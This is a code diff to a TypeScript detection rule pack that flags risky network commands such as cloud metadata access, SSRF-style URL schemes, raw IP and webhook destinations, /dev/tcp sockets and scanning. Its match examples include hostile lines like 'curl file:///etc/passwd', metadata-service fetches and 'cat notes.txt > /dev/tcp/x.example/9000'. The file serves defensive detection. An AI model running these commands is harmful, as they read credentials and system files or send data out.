@@ -1,8 +1,8 @@
 import type { Effect } from '../../../facts/effect.ts'
 import type { HazardPack } from '../rule.ts'
-import { action, attribute, family, has, verb } from './match.ts'
+import { action, attribute, family, has } from './match.ts'
 
-const reaches = (effect: Effect) => verb(effect, 'fetch', 'send', 'read') && (effect.target.kind === 'url' || effect.target.kind === 'host')
+const isPlace = ({ target }: Effect) => target.kind === 'url' || target.kind === 'host'
 
 /** An open redirect or a fetching service is told the metadata service's address. */
 const forwards = (effect: Effect) => effect.attributes.nested_scope === 'metadata'
@@ -28,7 +28,8 @@ export const network: HazardPack = {
         match: ['curl http://169.254.169.254/latest/meta-data/', 'curl 169.254.169.254/latest', 'wget http://metadata.google.internal./'],
         not_match: ['curl https://example.com'],
       },
-      when: (effect) => reaches(effect) && (effect.target.scope === 'metadata' || effect.target.scope === 'link-local'),
+      verbs: ['fetch', 'send', 'read'],
+      when: (effect) => isPlace(effect) && (effect.target.scope === 'metadata' || effect.target.scope === 'link-local'),
     },
     {
       id: 'odd-scheme',
@@ -41,7 +42,8 @@ export const network: HazardPack = {
         match: ['curl gopher://127.0.0.1:6379/_x', 'curl file:///etc/passwd', 'curl dict://localhost:11211/stat'],
         not_match: ['curl https://example.com', 'git clone file:///srv/repo.git'],
       },
-      when: (effect) => reaches(effect) && ODD.has(String(attribute(effect, 'scheme') ?? '')),
+      verbs: ['fetch', 'send', 'read'],
+      when: (effect) => isPlace(effect) && ODD.has(String(attribute(effect, 'scheme') ?? '')),
     },
     {
       id: 'private-network',
@@ -54,9 +56,10 @@ export const network: HazardPack = {
         match: ['curl http://10.0.0.1/', 'curl http://192.168.1.1/admin', 'curl -L https://hop.example/?url=http://169.254.169.254/'],
         not_match: ['curl http://localhost:3000/health', 'curl https://example.com', 'ping -c 1 192.168.1.1', 'dig @10.0.0.2 example.com'],
       },
+      verbs: ['fetch', 'send', 'read'],
       // A question for a name or for an echo carries no content; content in a name has a rule of its own.
       when: (effect) =>
-        reaches(effect) && (effect.target.scope === 'private' ? !action(effect, 'net:resolve', 'net:probe') : forwards(effect)),
+        isPlace(effect) && (effect.target.scope === 'private' ? !action(effect, 'net:resolve', 'net:probe') : forwards(effect)),
     },
     {
       id: 'insecure-transport',
@@ -82,8 +85,8 @@ export const network: HazardPack = {
         match: ['curl http://93.184.216.34/x', 'wget http://93.184.216.34:8080/x', 'curl https://webhook.site/abc'],
         not_match: ['curl http://127.0.0.1:3000/', 'ping -c1 93.184.216.34', 'curl https://example.com'],
       },
+      verbs: ['fetch', 'send', 'read'],
       when: (effect) =>
-        reaches(effect) &&
         effect.target.kind === 'url' &&
         ((family(effect, 'http') && effect.target.scope === 'public' && IP_LITERAL.test(effect.target.real ?? '')) ||
           attribute(effect, 'host_kind') === 'webhook-catcher'),
@@ -99,7 +102,9 @@ export const network: HazardPack = {
         match: ['exec 3<>/dev/tcp/x.example/80', 'cat notes.txt > /dev/tcp/x.example/9000'],
         not_match: ['exec 3<>/dev/tcp/127.0.0.1/5432', 'curl https://example.com'],
       },
-      when: (effect) => action(effect, 'net:socket') && verb(effect, 'send', 'fetch') && effect.target.scope !== 'loopback',
+      verbs: ['send', 'fetch'],
+      actions: ['net:socket'],
+      when: ({ target }) => target.scope !== 'loopback',
     },
     {
       id: 'scan',
@@ -112,7 +117,8 @@ export const network: HazardPack = {
         match: ['nmap -sS 203.0.113.0/24', 'python3 -m http.server 8000', 'python3 -m http.server --bind 0.0.0.0 8000'],
         not_match: ['ping -c1 example.com', 'python3 -m http.server --bind 127.0.0.1 8000'],
       },
-      when: (effect) => action(effect, 'net:scan', 'net:listen', 'net:forward', 'net:tunnel', 'net:capture') && !has(effect, 'loopback'),
+      actions: ['net:scan', 'net:listen', 'net:forward', 'net:tunnel', 'net:capture'],
+      when: (effect) => !has(effect, 'loopback'),
     },
   ],
 }
